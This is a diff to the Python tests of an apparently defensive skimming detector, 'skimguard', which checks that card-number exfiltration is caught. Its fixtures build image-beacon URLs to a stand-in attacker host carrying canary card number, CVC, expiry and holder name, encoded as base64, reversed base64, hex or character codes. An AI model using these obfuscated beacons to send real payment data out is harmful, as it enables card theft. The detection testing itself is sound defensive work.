@@ -6,6 +6,8 @@ import base64
 import dataclasses
 from datetime import UTC, datetime
 
+import pytest
+
 from skimguard.canary import new_canary
 from skimguard.detect.exfil import ExfilDetector
 from skimguard.models import CanaryIdentity, Channel, Finding, Outbound
@@ -153,10 +155,10 @@ def test_per_sighting_evidence_does_not_change_the_finding() -> None:
     assert findings[0].evidence["_canary_tag"] != findings[1].evidence["_canary_tag"]
 
 
-def test_a_short_value_counts_only_under_the_card_numbers_encoding() -> None:
+def test_the_reported_encoding_is_the_card_numbers() -> None:
     # ruleid: SG501 — char codes of "number|exp|cvc|name"; the CVC "124" also appears in the raw
-    # text as the code of "|". The encoding reported is the card number's, and the raw "124" does
-    # not vouch for the CVC (it is found again in the decoded text, by the same chain).
+    # text as the code of "|", so the matcher finds it plain. The encoding reported is the card
+    # number's, and the CVC still counts (the card number vouches for it in the same request).
     canary = dataclasses.replace(CANARY, cvc="124")
     codes = ",".join(str(ord(ch)) for ch in joined(canary))
     url = f"http://collect.evil.test/i.gif?c={codes}"
@@ -164,3 +166,25 @@ def test_a_short_value_counts_only_under_the_card_numbers_encoding() -> None:
     assert brief(findings) == [("SG501", "critical", "payment", "collect.evil.test|url")]
     assert findings[0].evidence["encoding_chains"][0] == "charcodes"
     assert findings[0].title.endswith("(image url, charcodes)")
+    assert findings[0].evidence["values"] == ["card_number", "cvc", "expiry", "holder"]
+
+
+ENCODINGS = {
+    "plain": lambda s: s,
+    "base64": lambda s: base64.b64encode(s.encode()).decode(),
+    "reverse+base64": lambda s: base64.b64encode(s.encode()).decode()[::-1],
+    "hex": lambda s: s.encode().hex(),
+    "charcodes": lambda s: ",".join(str(ord(c)) for c in s),
+}
+
+
+@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
+def test_random_canaries_give_the_same_finding_every_time(encoding: str) -> None:
+    # Whatever digits the random canary has, the finding, its values and its encoding are stable.
+    for _ in range(300):
+        canary = new_canary(datetime(2026, 11, 21, tzinfo=UTC))
+        url = "http://collect.evil.test/i.gif?d=" + ENCODINGS[encoding](joined(canary))
+        findings = run(out(Channel.URL, url, url), canary=canary)
+        assert brief(findings) == [("SG501", "critical", "payment", "collect.evil.test|url")], canary
+        assert findings[0].evidence["values"] == ["card_number", "cvc", "expiry", "holder"], canary
+        assert findings[0].evidence["encoding_chains"][0] == encoding, canary
